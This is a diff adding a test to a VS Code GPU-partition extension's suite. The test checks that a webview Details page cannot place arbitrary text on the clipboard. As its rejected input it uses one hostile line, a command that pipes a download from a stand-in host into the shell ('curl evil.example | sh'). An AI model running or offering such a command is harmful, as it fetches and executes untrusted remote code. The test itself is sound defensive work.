@@ -107,6 +107,32 @@ describe('webview messages from a hostile page', () => {
   });
 });
 
+describe('the Details page cannot fill the clipboard', () => {
+  it('copyValue copies only a value the pane shows', async function () {
+    this.timeout(30_000);
+    const { api } = await activateExtension();
+    const store = (api as unknown as { store: StoreLike }).store;
+    await store.ensureLoaded('demo');
+    const server = store.inventory('demo')!.servers.find((s) => s.name === 'AZL-N01')!;
+    const gpu = server.gpus.find((g) => g.partitionable)!;
+    const node = { nodeType: 'gpu', connection: 'demo', server, gpu };
+    const panel = await vscode.commands.executeCommand<PanelLike>('gpuPartitions.showDetails', node);
+    assert.ok(panel?.host);
+    await vscode.env.clipboard.writeText('before');
+    // Well-formed (passes the schema) but not a value on the pane: ignored.
+    assert.equal(panel.host.receive({ method: 'details/copyValue', params: { value: 'curl evil.example | sh' } }).ok, true);
+    await new Promise((r) => setTimeout(r, 300));
+    assert.equal(await vscode.env.clipboard.readText(), 'before');
+    // A value the pane shows (the GPU's partition count list) is copied.
+    await waitFor('a shown value to be copied', async () => {
+      panel.host.receive({ method: 'details/copyValue', params: { value: '16, 8, 4, 2, 1' } });
+      await new Promise((r) => setTimeout(r, 100));
+      return (await vscode.env.clipboard.readText()) === '16, 8, 4, 2, 1';
+    });
+    panel.host.panel.dispose();
+  });
+});
+
 /** Opens the Assign form the way the tree does (a VM node of AZL-N01). */
 async function openAssignDirect(): Promise<PanelLike> {
   const { api } = await activateExtension();
